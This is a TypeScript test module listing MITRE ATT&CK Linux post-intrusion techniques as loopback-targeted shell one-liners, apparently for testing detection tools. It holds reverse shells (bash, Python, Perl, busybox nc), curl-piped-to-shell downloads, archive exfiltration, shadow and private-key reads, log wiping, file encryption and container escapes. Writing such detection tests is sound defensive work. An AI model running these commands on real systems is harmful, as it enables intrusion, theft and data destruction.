/**
 * What intruders do once they are in: harmless versions of techniques of MITRE ATT&CK for Linux, beside those of
 * tests/live/evasion, which are about not being seen. Scripts find what {@link Lab} says in the environment; `@URL@` is a
 * server on loopback that has the payload and `run.sh`, `@PORT@` a listener that types commands.
 *
 * @module
 */

import type { Trial } from "../../../tests/live/evasion/technique.ts";

/** A technique with the number by which ATT&CK has it. */
export interface Tactic extends Trial {
  readonly idea: string;
}

function tactic(id: string, idea: string, what: string, script: string, more: Partial<Trial> = {}): Tactic {
  return { id, idea, what, script, ...more };
}

export const TACTICS: readonly Tactic[] = [
  tactic("find-users", "T1033", "who is here", "whoami; id; getent passwd >/dev/null; last >/dev/null 2>&1; :"),
  tactic("find-system", "T1082", "what machine it is", "uname -a; cat /etc/os-release; lscpu >/dev/null; hostname"),
  tactic("find-network", "T1049", "connections and addresses", "ip addr; ss -tan; cat /proc/net/tcp"),
  tactic("find-processes", "T1057", "what runs", "ps aux | grep -v grep | grep -c sshd; :"),
  tactic("find-set-user", "T1083", "files that change the user", "find /usr/bin -maxdepth 1 -perm -4000"),
  tactic(
    "find-ports",
    "T1046",
    "open ports",
    "bash -c 'for p in 1 2 3; do (echo >/dev/tcp/127.0.0.1/$p) 2>/dev/null; done; :'",
  ),
  tactic(
    "read-shadow",
    "T1003.008",
    "accounts and their hashes",
    "cat /etc/passwd; head -c 1 /etc/shadow >/dev/null; :",
  ),
  tactic(
    "find-identities",
    "T1552.004",
    "private keys",
    "find $PWD -name 'id_*'; find /etc/ssh -maxdepth 1 -name '*_key'",
  ),
  tactic(
    "find-words",
    "T1552.001",
    "words in configuration",
    "grep -rl pass /etc/adduser.conf /etc/login.defs; cat /proc/self/environ | tr '\\0' '\\n' >/dev/null",
  ),
  tactic(
    "clear-history",
    "T1070.003",
    "no history",
    "touch .bash_history; rm .bash_history; ln -s /dev/null .bash_history",
  ),
  tactic("clear-logs", "T1070.002", "empty logs", "echo x >auth.log; truncate -s 0 auth.log; sed -i d auth.log"),
  tactic("forge-times", "T1070.006", "times of another file", "touch own; touch -r /bin/ls own; stat own >/dev/null"),
  tactic(
    "shell-start",
    "T1546.004",
    "a program that each shell starts",
    "echo $PAYLOAD >.bashrc; HOME=$PWD bash -ic exit 2>/dev/null; :",
  ),
  tactic(
    "new-account",
    "T1136.001",
    "an account",
    "mkdir etc; cp /etc/passwd /etc/group /etc/login.defs etc/; touch etc/shadow etc/gshadow; useradd --prefix $PWD backup-agent",
    { needs: ["useradd"] },
  ),
  tactic(
    "add-login",
    "T1098.004",
    "a key that may log in",
    "mkdir .ssh; ssh-keygen -q -t ed25519 -N '' -f own; cat own.pub >>.ssh/authorized_keys; chmod 600 .ssh/authorized_keys",
    { needs: ["ssh-keygen"] },
  ),
  tactic(
    "set-user",
    "T1548.001",
    "a shell that changes the user, left behind",
    "cp /bin/bash .own; chmod u+s .own; ./.own -p -c 'echo $$ >&9; sleep 0.05; :'",
  ),
  tactic(
    "capabilities",
    "T1548",
    "capabilities given to a program",
    "cp $PAYLOAD own; setcap cap_net_raw+ep own; getcap own; ./own",
    { needs: ["setcap", "getcap"] },
  ),
  tactic(
    "download",
    "T1105",
    "a program fetched and run",
    "curl -s @URL@/payload -o update; chmod +x update; ./update",
    { needs: ["curl"] },
  ),
  tactic(
    "download-to-shell",
    "T1059.004",
    "a script fetched into a shell",
    "curl -s @URL@/run.sh | PAYLOAD=$PAYLOAD sh",
    { needs: ["curl"] },
  ),
  tactic(
    "download-by-python",
    "T1059.006",
    "a program fetched by Python",
    `/usr/bin/python3 -c "import os,urllib.request as r; open('u','wb').write(r.urlopen('@URL@/payload').read()); os.chmod('u',0o755); os.system('./u')"`,
    { needs: ["/usr/bin/python3"] },
  ),
  tactic(
    "download-by-perl",
    "T1059",
    "a program fetched by Perl",
    `perl -MIO::Socket::INET -e 'system("curl -s @URL@/payload -o .u"); chmod 0755, ".u"; system("./.u")'`,
    { needs: ["curl"] },
  ),
  tactic("encoded", "T1027", "a script in base64", "base64 <$LAB/payload.sh | base64 -d | bash"),
  tactic(
    "encoded-python",
    "T1140",
    "Python in base64",
    `/usr/bin/python3 -c "import base64;exec(base64.b64decode('$(base64 -w 0 <$LAB/payload.py)'))"`,
    { needs: ["/usr/bin/python3"] },
  ),
  tactic(
    "exfiltrate",
    "T1048.003",
    "an archive sent away",
    "tar -cz /etc/os-release 2>/dev/null | base64 | curl -s -d @- @URL@/in",
    { needs: ["curl"] },
  ),
  tactic(
    "pack",
    "T1560.001",
    "an archive, enciphered",
    "tar -czf x.tgz /etc/os-release 2>/dev/null; openssl enc -aes-256-cbc -pbkdf2 -k x -in x.tgz -out x.bin; rm x.tgz",
    { needs: ["openssl"] },
  ),
  tactic(
    "encipher",
    "T1486",
    "files enciphered one by one",
    "for i in 1 2 3 4; do echo x >$i; openssl enc -aes-256-cbc -pbkdf2 -k x -in $i -out $i.locked; shred -u $i; done",
    { needs: ["openssl"] },
  ),
  tactic("destroy", "T1485", "files written over", "dd if=/dev/zero of=x bs=1k count=4 2>/dev/null; shred -u x"),
  tactic(
    "reverse-shell-bash",
    "T1059.004",
    "bash as another machine's",
    "HOME=$PWD bash -c 'bash -i >/dev/tcp/127.0.0.1/@PORT@ 0<&1 2>/dev/null'; :",
  ),
  tactic(
    "reverse-shell-python",
    "T1059.006",
    "a shell as another machine's, by Python",
    `/usr/bin/python3 -c "import os,socket;s=socket.create_connection(('127.0.0.1',@PORT@));[os.dup2(s.fileno(),f) for f in (0,1)];os.execv('/bin/sh',['sh','-i'])" 2>/dev/null; :`,
    { needs: ["/usr/bin/python3"] },
  ),
  tactic(
    "reverse-shell-perl",
    "T1059",
    "a shell as another machine's, by Perl",
    `perl -MIO::Socket::INET -e '$s=IO::Socket::INET->new("127.0.0.1:@PORT@"); open(STDIN,"<&",$s); open(STDOUT,">&",$s); exec("/bin/sh -i")' 2>/dev/null; :`,
  ),
  tactic("reverse-shell-busybox", "T1059.004", "a shell by nc -e", "busybox nc 127.0.0.1 @PORT@ -e /bin/sh; :", {
    needs: ["busybox"],
  }),
  tactic(
    "miner",
    "T1496",
    "a miner in the background, under a kernel's name",
    "cp $PAYLOAD kdevtmpfsi; nohup ./kdevtmpfsi >/dev/null 2>&1 & wait",
  ),
  tactic(
    "ask-for-guards",
    "T1518.001",
    "whether somebody watches",
    "for n in auditd falco osqueryd; do pgrep $n; done; ls /etc/audit 2>/dev/null; :",
  ),
  tactic(
    "end-guards",
    "T1562.001",
    "ends who watches",
    "pkill -0 no-such-guard; systemctl --version >/dev/null 2>&1; :",
  ),
  tactic(
    "kernel-modules",
    "T1547.006",
    "modules of the kernel",
    "lsmod >/dev/null 2>&1; modinfo ext4 >/dev/null 2>&1; cat /proc/modules >/dev/null",
  ),
  tactic("other-namespaces", "T1611", "into another's namespaces", "nsenter -t $$ -m -u -i -n $PAYLOAD", {
    needs: ["nsenter"],
  }),
  tactic(
    "host-mounts",
    "T1611",
    "the machine's disks from within a container",
    "unshare -m --propagation=private sh -ec 'mkdir host; mount --bind / host; chroot host $PAYLOAD'",
  ),
  tactic(
    "hidden-file",
    "T1564.001",
    "a hidden program in a hidden folder",
    "mkdir -p .cache/.x; cp $PAYLOAD .cache/.x/.d; .cache/.x/.d",
  ),
  tactic(
    "machine-made-name",
    "T1036.010",
    "a name that a machine made",
    "n=$(head -c 12 /dev/urandom | base64 | tr +/ xy); cp $PAYLOAD $n; ./$n",
  ),
];
